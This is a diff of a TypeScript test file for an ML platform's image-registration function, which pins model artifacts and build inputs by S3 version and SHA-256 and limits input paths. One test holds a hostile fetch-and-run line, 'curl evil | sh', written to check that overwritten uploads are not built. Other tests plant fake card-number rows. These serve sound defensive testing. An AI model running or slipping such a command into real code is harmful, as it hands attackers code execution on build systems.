@@ -1,8 +1,9 @@
-import { renderBuildContext } from '../../../../lambda/images/core/build-context';
-import { MAX_REQUIREMENTS_BYTES, registerImage } from '../../../../lambda/images/core/register-image';
+import { formatContextFiles, type PinnedModel, renderBuildContext } from '../../../../lambda/images/core/build-context';
+import { MAX_ENTRY_BYTES, MAX_REQUIREMENTS_BYTES, registerImage } from '../../../../lambda/images/core/register-image';
 import { DEFAULT_BASE_IMAGE, RegisterImageRequest } from '../../../../lambda/images/core/schemas';
 import { ConflictError, ValidationError } from '../../../../lambda/shared/errors';
 import { parseRequest } from '../../../../lambda/shared/validation';
+import { sha256Hex } from '../../registry/fakes';
 import { FakeClock } from '../../shared/fake-clock';
 import {
   ACCOUNT,
@@ -17,8 +18,10 @@ import {
 } from './fakes';
 
 const BUCKET = 'artifacts';
-const ENTRY = `s3://${BUCKET}/uploads/churn/score.py`;
-const REQUIREMENTS = `s3://${BUCKET}/uploads/churn/requirements.txt`;
+const ENTRY = `s3://${BUCKET}/image-inputs/churn-scorer/e1/score.py`;
+const SCRIPT = 'def run(data):\n    return data\n';
+const REQUIREMENTS = `s3://${BUCKET}/image-inputs/churn-scorer/r1/requirements.txt`;
+const REQUIREMENTS_TEXT = '# pinned\nnumpy==1.26.4\nscikit-learn==1.4.2  # model\n';
 const SHIM = '# the serving shim\n';
 const CHURN_3 = `s3://${BUCKET}/models/churn/3/model.tar.gz`;
 const CHURN_4 = `s3://${BUCKET}/models/churn/4/model.tar.gz`;
@@ -26,11 +29,13 @@ const FRAUD_1 = `s3://${BUCKET}/models/fraud/1/model.joblib`;
 const EXTERNAL = `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/team/scorer:v1.2`;
 const SCAN = { status: 'COMPLETE', findings: { HIGH: 1 } };
 const ACCOUNT_REGISTRY = `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com`;
+/** A served model as the registry pinned it (InMemoryModelVersions' made-up S3 version and digest). */
+const pinned = (name: string, version: number, artifactUri: string) => ({ name, version, artifactUri, artifactVersionId: `${name}-${version}-s3v`, artifactSha256: sha256Hex(artifactUri) });
 
 function setUp() {
   const store = new InMemoryImageStore();
   const versions = new InMemoryModelVersions().add('churn', 3, CHURN_3).add('churn', 4, CHURN_4).add('fraud', 1, FRAUD_1).setAlias('churn', 'production', 3);
-  const inputs = new InMemoryBuildInputs().put(ENTRY, 'def run(data):\n    return data\n').put(REQUIREMENTS, '# pinned\nnumpy==1.26.4\nscikit-learn==1.4.2  # model\n');
+  const inputs = new InMemoryBuildInputs().put(ENTRY, SCRIPT).put(REQUIREMENTS, REQUIREMENTS_TEXT);
   const builder = new RecordingImageBuilder();
   const repository = new InMemoryImageRepository().push('team/scorer', 'v1.2', { digest: digestOf('e'), scan: SCAN });
   const packages = new InMemoryModelPackages();
@@ -54,6 +59,7 @@ function setUp() {
     expect(store.reservations).toEqual([]);
     expect(store.commits).toEqual([]);
     expect(inputs.contexts).toEqual([]);
+    expect(inputs.copies).toEqual([]);
     expect(builder.starts).toEqual([]);
     expect(events.published).toEqual([]);
     expect(packages.created).toEqual([]);
@@ -71,11 +77,14 @@ function setUp() {
 
 describe('registerImage', () => {
   describe('an image to build', () => {
-    it('commits version 1 BUILDING with its models pinned, its source and its model data location', async () => {
-      const { register, command, store, clock } = setUp();
+    it('commits version 1 BUILDING with its models pinned, its source, its pinned inputs and context files, and its model data location', async () => {
+      const { register, command, store, clock, inputs } = setUp();
 
       await register(command({ description: 'Churn scorer', registeredBy: 'alice', environment: { THREADS: '2' } }));
 
+      const context = `s3://${BUCKET}/images/churn-scorer/1/context/`;
+      const written = inputs.contexts[0].files;
+      const contextFiles = Object.entries(written).map(([name, text]) => ({ name, versionId: inputs.current(`${context}${name}`)!.versionId, sha256: sha256Hex(text) }));
       expect(store.commits).toEqual([
         {
           name: 'churn-scorer',
@@ -85,8 +94,16 @@ describe('registerImage', () => {
           updatedAt: clock.now().toISOString(),
           createdBy: 'alice',
           description: 'Churn scorer',
-          models: [{ name: 'churn', version: 3, requestedAlias: 'production', artifactUri: CHURN_3 }],
-          source: { type: 'build', entry: ENTRY, requirements: REQUIREMENTS, baseImage: DEFAULT_BASE_IMAGE, contextUri: `s3://${BUCKET}/images/churn-scorer/1/context/` },
+          models: [{ ...pinned('churn', 3, CHURN_3), requestedAlias: 'production' }],
+          source: {
+            type: 'build',
+            entry: ENTRY,
+            requirements: REQUIREMENTS,
+            baseImage: DEFAULT_BASE_IMAGE,
+            contextUri: context,
+            inputs: { entry: { versionId: '1', sha256: sha256Hex(SCRIPT) }, requirements: { versionId: '1', sha256: sha256Hex(REQUIREMENTS_TEXT) } },
+            contextFiles,
+          },
           environment: { THREADS: '2' },
           allowCriticalFindings: false,
           modelDataUrl: `s3://${BUCKET}/images/churn-scorer/1/model.tar.gz`,
@@ -94,7 +111,7 @@ describe('registerImage', () => {
       ]);
     });
 
-    it('writes the build context with the checked requirements and copies the entry script beside it', async () => {
+    it('writes the build context with the checked requirements and the entry script as the bytes it read', async () => {
       const { register, command, inputs } = setUp();
 
       const record = await register(command({ environment: { THREADS: '2' }, source: { type: 'build', entry: ENTRY, requirements: REQUIREMENTS, baseImage: 'public.ecr.aws/docker/library/python:3.11-slim' } }));
@@ -102,21 +119,51 @@ describe('registerImage', () => {
       expect(inputs.contexts).toEqual([
         {
           contextUri: `s3://${BUCKET}/images/churn-scorer/1/context/`,
-          files: renderBuildContext(
-            {
-              imageName: 'churn-scorer',
-              imageVersion: 1,
-              baseImage: 'public.ecr.aws/docker/library/python:3.11-slim',
-              entryFile: 'score.py',
-              models: record.models,
-              environment: { THREADS: '2' },
-              requirements: ['numpy==1.26.4', 'scikit-learn==1.4.2'],
-            },
-            SHIM,
-          ),
-          copies: { 'score.py': ENTRY },
+          files: {
+            'score.py': SCRIPT,
+            ...renderBuildContext(
+              {
+                imageName: 'churn-scorer',
+                imageVersion: 1,
+                baseImage: 'public.ecr.aws/docker/library/python:3.11-slim',
+                entryFile: 'score.py',
+                models: record.models as PinnedModel[],
+                environment: { THREADS: '2' },
+                requirements: ['numpy==1.26.4', 'scikit-learn==1.4.2'],
+              },
+              SHIM,
+            ),
+          },
         },
       ]);
+    });
+
+    it('records every context file with the S3 version it was written as and its SHA-256, and pins each model artifact in models.txt', async () => {
+      const { register, command, inputs } = setUp();
+
+      const record = await register(command({ models: [{ name: 'churn', version: 4 }, { name: 'fraud', version: 1 }] }));
+
+      const source = record.source as Extract<typeof record.source, { type: 'build' }>;
+      expect(source.contextFiles!.map((file) => file.name).sort()).toEqual(['.dockerignore', 'Dockerfile', 'models.txt', 'requirements.txt', 'score.py', 'serve.py']);
+      for (const file of source.contextFiles!) {
+        const stored = inputs.current(`${source.contextUri}${file.name}`)!;
+        expect(file).toEqual({ name: file.name, versionId: stored.versionId, sha256: sha256Hex(stored.text) });
+      }
+      expect(inputs.current(`${source.contextUri}models.txt`)!.text).toBe(
+        `${sha256Hex(CHURN_4)} churn-4-s3v churn/4 ${CHURN_4}\n${sha256Hex(FRAUD_1)} fraud-1-s3v fraud/1 ${FRAUD_1}\n`,
+      );
+    });
+
+    it('builds the script it checked even when the upload is overwritten after registration', async () => {
+      const { register, command, inputs } = setUp();
+      const record = await register(command());
+
+      inputs.put(ENTRY, 'import os\nos.system("curl evil | sh")\n');
+
+      const source = record.source as Extract<typeof record.source, { type: 'build' }>;
+      const script = source.contextFiles!.find((file) => file.name === 'score.py')!;
+      expect(script.sha256).toBe(sha256Hex(SCRIPT));
+      expect(inputs.current(`${source.contextUri}score.py`)).toEqual({ text: SCRIPT, versionId: script.versionId });
     });
 
     it('builds without requirements when none are given', async () => {
@@ -128,15 +175,24 @@ describe('registerImage', () => {
       expect(inputs.contexts[0].files.Dockerfile).not.toContain('pip install');
     });
 
-    it('starts one build of the context with the image variables, and records it as SUBMITTED', async () => {
+    it('starts one build of the context with the image variables and its pinned context files, and records it as SUBMITTED', async () => {
       const { register, command, builder, store, clock } = setUp();
 
       const record = await register(command());
 
+      const source = record.source as Extract<typeof record.source, { type: 'build' }>;
       expect(builder.starts).toEqual([
         {
           sourceLocation: `${BUCKET}/images/churn-scorer/1/context/`,
-          variables: { IMAGE_NAME: 'churn-scorer', IMAGE_VERSION: '1', IMAGE_TAG: 'churn-scorer-1', MODEL_DATA_URI: `s3://${BUCKET}/images/churn-scorer/1/model.tar.gz` },
+          variables: {
+            IMAGE_NAME: 'churn-scorer',
+            IMAGE_VERSION: '1',
+            IMAGE_TAG: 'churn-scorer-1',
+            MODEL_DATA_URI: `s3://${BUCKET}/images/churn-scorer/1/model.tar.gz`,
+            CONTEXT_BUCKET: BUCKET,
+            CONTEXT_PREFIX: 'images/churn-scorer/1/context/',
+            CONTEXT_FILES: formatContextFiles(source.contextFiles!),
+          },
           idempotencyToken: `churn-scorer-1-${clock.now().getTime()}`,
         },
       ]);
@@ -168,10 +224,7 @@ describe('registerImage', () => {
 
       const record = await register(command({ models: [{ name: 'churn', version: 4 }, { name: 'fraud', version: 1 }] }));
 
-      expect(record.models).toEqual([
-        { name: 'churn', version: 4, artifactUri: CHURN_4 },
-        { name: 'fraud', version: 1, artifactUri: FRAUD_1 },
-      ]);
+      expect(record.models).toEqual([pinned('churn', 4, CHURN_4), pinned('fraud', 1, FRAUD_1)]);
     });
 
     it('creates no SageMaker package while the image builds', async () => {
@@ -195,8 +248,8 @@ describe('registerImage', () => {
   });
 
   describe('an image built elsewhere', () => {
-    it('commits it READY, pinned to its digest, with its scan findings', async () => {
-      const { register, external, store, repository } = setUp();
+    it('commits it READY, pinned to its digest, with its scan findings and model data the platform copied from the pinned artifact version', async () => {
+      const { register, external, store, repository, inputs } = setUp();
 
       const record = await register(external());
 
@@ -208,9 +261,10 @@ describe('registerImage', () => {
           imageUri: `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/team/scorer@${digestOf('e')}`,
           digest: digestOf('e'),
           scan: SCAN,
-          modelDataUrl: CHURN_3,
+          modelDataUrl: `s3://${BUCKET}/images/churn-scorer/1/model.tar.gz`,
         }),
       ]);
+      expect(inputs.copies).toEqual([{ from: { uri: CHURN_3, versionId: 'churn-3-s3v' }, to: `s3://${BUCKET}/images/churn-scorer/1/model.tar.gz` }]);
       expect(record.status).toBe('READY');
     });
 
@@ -234,6 +288,7 @@ describe('registerImage', () => {
 
       expect(events.published).toEqual([expect.objectContaining({ status: 'READY', digest: digestOf('e'), scan: SCAN })]);
       expect(inputs.contexts).toEqual([]);
+      expect(inputs.reads).toEqual([]);
       expect(builder.starts).toEqual([]);
     });
 
@@ -250,11 +305,12 @@ describe('registerImage', () => {
       ['several models', [{ name: 'churn', version: 3 }, { name: 'fraud', version: 1 }]],
       ['a model whose artifact is no tar.gz', [{ name: 'fraud', version: 1 }]],
     ])('gives no model data for %s (the image carries its models)', async (_, models) => {
-      const { register, external } = setUp();
+      const { register, external, inputs } = setUp();
 
       const record = await register(external({ models }));
 
       expect(record.modelDataUrl).toBeUndefined();
+      expect(inputs.copies).toEqual([]);
     });
   });
 
@@ -295,18 +351,22 @@ describe('registerImage', () => {
     it('fails on bad models and a bad source together', async () => {
       const { register, command, issuesOf, nothingDone } = setUp();
 
-      const issues = await issuesOf(register(command({ models: [{ name: 'churn', version: 9 }], source: { type: 'build', entry: `s3://${BUCKET}/uploads/missing.py`, requirements: `s3://${BUCKET}/missing.txt` } })));
+      const issues = await issuesOf(register(command({ models: [{ name: 'churn', version: 9 }], source: { type: 'build', entry: `s3://${BUCKET}/image-inputs/missing.py`, requirements: `s3://${BUCKET}/image-inputs/missing.txt` } })));
 
       expect(issues.map((issue) => issue.path)).toEqual(['models[0].version', 'source.entry', 'source.requirements']);
       nothingDone();
     });
 
+    const OUTSIDE_INPUTS = 'must be under "image-inputs/" of the artifact bucket, where the matching grant lets its caller upload (s3://artifacts/image-inputs/...)';
+
     it.each([
-      ['outside the artifact bucket', 's3://elsewhere/score.py', "must be in the platform's artifact bucket (s3://artifacts/...)"],
-      ['named like the shim', `s3://${BUCKET}/uploads/serve.py`, 'must be a Python module file like score.py (not "serve.py", the serving shim\'s name), got "serve.py"'],
-      ['named like the requirements', `s3://${BUCKET}/uploads/requirements.txt`, 'must be a Python module file like score.py (not "serve.py", the serving shim\'s name), got "requirements.txt"'],
-      ['not a module name', `s3://${BUCKET}/uploads/my-score.py`, 'must be a Python module file like score.py (not "serve.py", the serving shim\'s name), got "my-score.py"'],
-      ['not uploaded', `s3://${BUCKET}/uploads/missing.py`, `no script at s3://${BUCKET}/uploads/missing.py: upload it first`],
+      ['outside the artifact bucket', 's3://elsewhere/image-inputs/score.py', OUTSIDE_INPUTS],
+      ['in a build context the platform wrote', `s3://${BUCKET}/images/victim/1/context/score.py`, OUTSIDE_INPUTS],
+      ['among model artifacts', `s3://${BUCKET}/uploads/churn/score.py`, OUTSIDE_INPUTS],
+      ['named like the shim', `s3://${BUCKET}/image-inputs/serve.py`, 'must be a Python module file like score.py (not "serve.py", the serving shim\'s name), got "serve.py"'],
+      ['named like the requirements', `s3://${BUCKET}/image-inputs/requirements.txt`, 'must be a Python module file like score.py (not "serve.py", the serving shim\'s name), got "requirements.txt"'],
+      ['not a module name', `s3://${BUCKET}/image-inputs/my-score.py`, 'must be a Python module file like score.py (not "serve.py", the serving shim\'s name), got "my-score.py"'],
+      ['not uploaded', `s3://${BUCKET}/image-inputs/missing.py`, `no script at s3://${BUCKET}/image-inputs/missing.py: upload it first`],
     ])('fails on an entry script %s', async (_, entry, message) => {
       const { register, command, issuesOf, nothingDone } = setUp();
 
@@ -315,18 +375,49 @@ describe('registerImage', () => {
     });
 
     it.each([
-      ['outside the artifact bucket', 's3://elsewhere/requirements.txt', "must be in the platform's artifact bucket (s3://artifacts/...)"],
-      ['not uploaded', `s3://${BUCKET}/missing.txt`, `no file at s3://${BUCKET}/missing.txt: upload it first`],
-    ])('fails on a requirements file %s', async (_, requirements, message) => {
-      const { register, command, issuesOf, nothingDone } = setUp();
+      ['outside the artifact bucket', 's3://elsewhere/requirements.txt', OUTSIDE_INPUTS],
+      ["in another team's training data", `s3://${BUCKET}/training-data/fraud/2/train.csv`, OUTSIDE_INPUTS],
+      ['in a build context the platform wrote', `s3://${BUCKET}/images/victim/1/context/requirements.txt`, OUTSIDE_INPUTS],
+      ['among model artifacts', `s3://${BUCKET}/models/churn/3/requirements.txt`, OUTSIDE_INPUTS],
+      ['not uploaded', `s3://${BUCKET}/image-inputs/missing.txt`, `no file at s3://${BUCKET}/image-inputs/missing.txt: upload it first`],
+    ])('fails on a requirements file %s, reading nothing outside image-inputs/', async (_, requirements, message) => {
+      const { register, command, inputs, issuesOf, nothingDone } = setUp();
+      // Someone else's data, where the function must not read it for the caller.
+      if (message === OUTSIDE_INPUTS) inputs.put(requirements, 'customer_id,card_number\n1,4111111111111111\n');
 
       expect(await issuesOf(register(command({ source: { type: 'build', entry: ENTRY, requirements } })))).toEqual([{ path: 'source.requirements', message }]);
+      expect(inputs.reads.filter((uri) => !uri.startsWith(`s3://${BUCKET}/image-inputs/`))).toEqual([]);
       nothingDone();
+    });
+
+    it('quotes at most three refused lines of a requirements file, each cut to 60 characters, and counts the rest', async () => {
+      const { register, command, inputs, issuesOf, nothingDone } = setUp();
+      const rows = Array.from({ length: 40 }, (_, index) => `customer-${index},${'4111 1111 1111 1111 '.repeat(10)},secret`);
+      inputs.put(REQUIREMENTS, `${rows.join('\n')}\n`);
+
+      const issues = await issuesOf(register(command()));
+
+      expect(issues).toHaveLength(4);
+      for (const [index, issue] of issues.slice(0, 3).entries()) {
+        expect(issue.path).toBe('source.requirements');
+        const quoted = /^line \d+ "([^"]*)"/.exec(issue.message)![1];
+        expect(quoted).toBe(`${rows[index].slice(0, 59)}…`);
+      }
+      expect(issues[3]).toEqual({ path: 'source.requirements', message: 'and 37 more problems in the file' });
+      expect(issues.map((issue) => issue.message).join('')).not.toContain('customer-3,');
+      nothingDone();
+    });
+
+    it('fails on an entry script larger than 1 MiB', async () => {
+      const { register, command, inputs, issuesOf } = setUp();
+      inputs.put(ENTRY, '#'.repeat(MAX_ENTRY_BYTES + 1));
+
+      expect(await issuesOf(register(command()))).toEqual([{ path: 'source.entry', message: `is ${MAX_ENTRY_BYTES + 1} bytes; at most ${MAX_ENTRY_BYTES} are accepted` }]);
     });
 
     it('fails on a requirements file larger than 64 KiB without parsing it', async () => {
       const { register, command, inputs, issuesOf } = setUp();
-      const uri = `s3://${BUCKET}/big.txt`;
+      const uri = `s3://${BUCKET}/image-inputs/big.txt`;
       inputs.put(uri, `numpy=1\n${'#'.repeat(MAX_REQUIREMENTS_BYTES)}`);
 
       expect(await issuesOf(register(command({ source: { type: 'build', entry: ENTRY, requirements: uri } })))).toEqual([
